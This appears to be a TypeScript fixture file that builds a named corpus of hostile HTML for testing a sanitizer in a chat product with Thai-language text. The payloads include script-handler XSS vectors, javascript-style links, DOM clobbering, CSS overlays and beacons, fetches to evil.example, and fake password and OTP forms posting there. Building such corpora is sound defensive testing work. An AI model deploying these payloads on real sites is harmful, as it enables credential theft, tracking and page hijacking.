import { brokenMarkup, mutations, namespaces } from './hostileMarkup.fixtures.ts';
import { contexts, disguises, HANDLERS, RUN, SCHEMES } from './hostileParts.fixtures.ts';

/** HTML that an attacker with an operator account might publish. */
export interface HostilePayload {
  /** Kind and number, unique. */
  readonly name: string;
  readonly html: string;
}

const EVIL = 'https://evil.example';

/** Elements with a handler that fires without user action. */
const SPEAKERS: readonly string[] = [
  '<img src=x {on}>',
  '<img src="https://evil.example/x.png" {on}>',
  '<svg {on}></svg>',
  '<svg><animate attributeName=x dur=1s {on}></animate></svg>',
  '<video src=x {on}></video>',
  '<video><source src=x {on}></video>',
  '<audio src=x {on}></audio>',
  '<details open {on}>เปิด</details>',
  '<input autofocus {on}>',
  '<select autofocus {on}></select>',
  '<textarea autofocus {on}></textarea>',
  '<body {on}>',
  '<marquee {on}>โบนัส</marquee>',
  '<iframe src=about:blank {on}></iframe>',
  '<object data=x {on}></object>',
  '<p contenteditable autofocus tabindex=0 {on}>โปรโมชั่น</p>',
  '<a href="#x" {on}>รับรางวัล</a>',
  '<dialog open {on}>ประกาศ</dialog>',
];

const handlers = SPEAKERS.flatMap((speaker) =>
  HANDLERS.map((handler) => speaker.replace('{on}', handler)),
);

const links = SCHEMES.flatMap((scheme) => [
  `<a href="${scheme}">กดที่นี่</a>`,
  `<a href='${scheme}' target=_self rel=opener ping="${EVIL}/ping">กดที่นี่</a>`,
  `<img src="${scheme}" alt="รูป">`,
  `<iframe src="${scheme}"></iframe>`,
  `<form action="${scheme}"><button formaction="${scheme}">ยืนยัน</button></form>`,
  `<svg><a xlink:href="${scheme}" href="${scheme}"><text y=20>กด</text></a></svg>`,
  `<object data="${scheme}"></object><embed src="${scheme}">`,
  `<meta http-equiv=refresh content="0;url=${scheme}"><base href="${scheme}">`,
]);

/** Names that a page, a browser or React looks up. */
const NAMES = [
  'brandChat',
  'location',
  'document',
  'attributes',
  'childNodes',
  'nodeName',
  'parentNode',
  'getElementById',
  'createElement',
  'trustedTypes',
  'app',
  'root',
  'history',
  'fetch',
  '__proto__',
  'constructor',
  'body',
  'currentScript',
];
const clobbering = NAMES.flatMap((name) => [
  `<a id="${name}" href="${EVIL}">แชท</a>`,
  `<form id="${name}"><input name="${name}"><img name="${name}" src=x></form>`,
  `<a id=x></a><a id=x name="${name}" href="clobber:${name}"></a>`,
  `<iframe name="${name}" srcdoc="<a id=${name}></a>"></iframe><object id="${name}" name="${name}"></object>`,
]);

const STYLES = [
  'position:fixed;inset:0;z-index:2147483647;background:#fff',
  `background:url(${EVIL}/seen.png)`,
  `background-image:image-set("${EVIL}/a.png" 1x)`,
  `list-style:url(${EVIL}/l.png)`,
  `cursor:url(${EVIL}/c.cur),auto`,
  `content:url(${EVIL}/c.png)`,
  'width:99999px;height:99999px',
  'margin:-9999px;padding:9999px',
  'font-size:9999px;line-height:9999',
  'transform:scale(999) translate(-50vw,-50vh)',
  'behavior:url(x.htc);-moz-binding:url(x.xml)',
  'width:expression(window.hostileText=1)',
  'display:none',
  'pointer-events:none;opacity:0',
  'animation:x 1s;animation-name:x',
  '--brand-color-text:transparent',
  `/**/position/**/:/**/fixed;back\\67round:u\\72l(${EVIL}/e)`,
  `color:red;}*{display:none}`,
  `filter:url(${EVIL}/f.svg#x);mask:url(${EVIL}/m.svg)`,
  `border-image:url(${EVIL}/b.png) 30;src:url(${EVIL}/f.woff)`,
];
const styles = STYLES.flatMap((style) => [
  `<div style="${style.replaceAll('"', '&quot;')}">ระบบขัดข้อง</div>`,
  `<style>*{${style}}</style><p>ระบบขัดข้อง</p>`,
  `<p>ก</p><svg><style>*{${style}}</style></svg>`,
  `<table style="${style.replaceAll('"', '&quot;')}" background="${EVIL}/t.png"><tr><td background="${EVIL}/d.png">ก</td></tr></table>`,
]);

const FETCHES = [
  `<img src="${EVIL}/a.png">`,
  `<img src="//evil.example/a.png">`,
  `<img srcset="${EVIL}/a.png 1x, ${EVIL}/b.png 2x" sizes=100vw>`,
  `<picture><source srcset="${EVIL}/a.png"><img src=x></picture>`,
  `<img src=x lowsrc="${EVIL}/a" dynsrc="${EVIL}/b" longdesc="${EVIL}/c">`,
  `<image src="${EVIL}/a.png">`,
  `<link rel=stylesheet href="${EVIL}/a.css">`,
  `<link rel=preload as=image href="${EVIL}/a.png"><link rel=prefetch href="${EVIL}/p">`,
  `<link rel=dns-prefetch href="${EVIL}"><link rel=preconnect href="${EVIL}">`,
  `<link rel=import href="${EVIL}/a.html"><link rel=manifest href="${EVIL}/m">`,
  `<link rel=modulepreload href="${EVIL}/m.js"><link rel=icon href="${EVIL}/i.png">`,
  `<style>@import "${EVIL}/a.css";@font-face{font-family:x;src:url(${EVIL}/f)}</style>`,
  `<video src="${EVIL}/v" poster="${EVIL}/p" autoplay preload=auto></video>`,
  `<audio src="${EVIL}/a" autoplay><track src="${EVIL}/t" default></audio>`,
  `<object data="${EVIL}/o"><param name=src value="${EVIL}/p"></object>`,
  `<embed src="${EVIL}/e" code="${EVIL}/c"><applet code="${EVIL}/c" archive="${EVIL}/j"></applet>`,
  `<iframe src="${EVIL}"></iframe><frameset><frame src="${EVIL}"></frameset>`,
  `<iframe srcdoc="<img src=${EVIL}/a>"></iframe>`,
  `<portal src="${EVIL}"></portal><fencedframe src="${EVIL}"></fencedframe>`,
  `<body background="${EVIL}/b.png"><bgsound src="${EVIL}/s">`,
  `<input type=image src="${EVIL}/i.png">`,
  `<svg><image href="${EVIL}/i.png" xlink:href="${EVIL}/x.png" width=9 height=9></image></svg>`,
  `<svg><use href="${EVIL}/u.svg#x"></use><feImage href="${EVIL}/f"/></svg>`,
  `<html manifest="${EVIL}/m"><head profile="${EVIL}/p">`,
  `<script src="${EVIL}/x.js"></script><script type=module src="${EVIL}/m.js"></script>`,
  `<script type=importmap>{"imports":{"react":"${EVIL}/r.js"}}</script>`,
  `<script type=speculationrules>{"prefetch":[{"urls":["${EVIL}"]}]}</script>`,
  `<meta http-equiv=refresh content="0;url=${EVIL}">`,
  `<meta http-equiv=Content-Security-Policy content="img-src *; report-uri ${EVIL}/r">`,
  `<meta http-equiv=refresh content="0;javascript:${RUN}">`,
  `<base href="${EVIL}/"><a href="/deposit">ฝากเงิน</a><img src="/a.png">`,
  `<base target=_self><a href="${EVIL}">x</a>`,
  `<a href="${EVIL}" ping="${EVIL}/ping" attributionsrc="${EVIL}/s">x</a>`,
  `<img attributionsrc="${EVIL}/s" src=x crossorigin=use-credentials>`,
  `<q cite="${EVIL}/q">x</q><blockquote cite="${EVIL}/b">y</blockquote>`,
];
const fetches = FETCHES.flatMap((one) => [one, `<p>ประกาศ</p>${one}<p>จบ</p>`]);

const FORMS = [
  `<form action="${EVIL}" method=post><input name=password type=password autofocus><button>ยืนยัน</button></form>`,
  `<input type=password placeholder="รหัสผ่าน"><input type=submit formaction="${EVIL}">`,
  `<textarea>กรอก OTP</textarea><select><option>กสิกรไทย</select>`,
  `<label>รหัส <input name=otp autocomplete=one-time-code></label>`,
  `<button type=submit form=x onclick="${RUN}">ตกลง</button><form id=x action="${EVIL}"></form>`,
  `<isindex action="${EVIL}" prompt="รหัสผ่าน"><keygen name=k>`,
  `<fieldset><legend>เข้าสู่ระบบ</legend><input><output>1</output><meter></meter><progress></progress></fieldset>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror="${RUN}"></form>`,
  `<input list=l><datalist id=l><option value=x></datalist>`,
  `<div contenteditable=true role=textbox aria-label="รหัสผ่าน" tabindex=0>พิมพ์ที่นี่</div>`,
  `<button popovertarget=p>x</button><div popover id=p>ประกาศ</div>`,
  `<button commandfor=d command=show-modal>x</button><dialog id=d open>ประกาศ</dialog>`,
];

/** All kinds of attacks, each payload with a name. */
export const hostilePayloads: readonly HostilePayload[] = Object.entries({
  handlers,
  links,
  clobbering,
  styles,
  fetches,
  forms: FORMS.flatMap((form) => contexts(form)),
  namespaces: namespaces.flatMap((one) => contexts(one)),
  mutations,
  disguises: disguises.flatMap((one) => contexts(one)),
  broken: brokenMarkup,
}).flatMap(([kind, all]) => all.map((html, index) => ({ name: `${kind} ${index + 1}`, html })));
